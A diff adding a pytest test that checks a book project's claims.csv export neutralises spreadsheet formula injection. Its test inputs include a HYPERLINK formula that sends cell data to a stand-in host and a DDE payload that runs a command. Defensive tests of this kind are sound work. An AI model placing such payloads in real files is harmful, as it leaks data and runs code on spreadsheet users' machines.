@@ -259,3 +259,39 @@ def test_serve_escapes_titles_too(tmp_path: Path) -> None:
     scan = scan_html(html)
     assert not dangers(scan, "alert("), [t for t in scan.tags if t[0] in ("script", "img")]
     assert hostile_value(0, 0).split(" F")[0][:40] in scan.visible
+
+
+def test_csv_export_cannot_run_formulas(tmp_path: Path) -> None:
+    """claims.csv is opened in spreadsheets: text that starts like a formula stays text (a leading
+    apostrophe, the spreadsheet convention), numbers stay numbers, nothing else changes."""
+    import csv
+    import io
+
+    from bookgen.exports import claims_csv
+    from bookgen.pipeline import check
+
+    root = copy_project(tmp_path / "book")
+    ann = root / "content" / "annotations" / "talks.yaml"
+    text = ann.read_text("utf-8")
+    typed = {
+        "note": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
+        "measures": "@SUM(A1:A9)",
+        "unit": "+cmd|' /C calc'!A0",
+        "value": "-5",
+    }
+    text = text.replace("note: Alpha said the plan was 90% agreed.", f"note: '{typed['note']}'")
+    text = text.replace("measures: share of the plan agreed", f"measures: \"{typed['measures']}\"")
+    text = text.replace("unit: percent", f"unit: \"{typed['unit']}\"")
+    text = text.replace('value: "90"', f"value: \"{typed['value']}\"")
+    ann.write_text(text, "utf-8")
+    result = check(root)
+    assert result.book is not None, result.problems.render()
+    rows = list(csv.DictReader(io.StringIO(claims_csv(result.book).decode("utf-8"))))
+    row = next(r for r in rows if r["annotation"] == "t-alpha-90")
+    assert row["note"] == "'" + typed["note"]
+    assert row["figure_measures"] == "'" + typed["measures"]
+    assert row["figure_unit"] == "'" + typed["unit"]
+    assert row["figure_value"] == "-5"  # a plain number is left as it is
+    for r in rows:
+        for cell in r.values():
+            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and (cell[:1] != "-" or cell == "-5"), cell
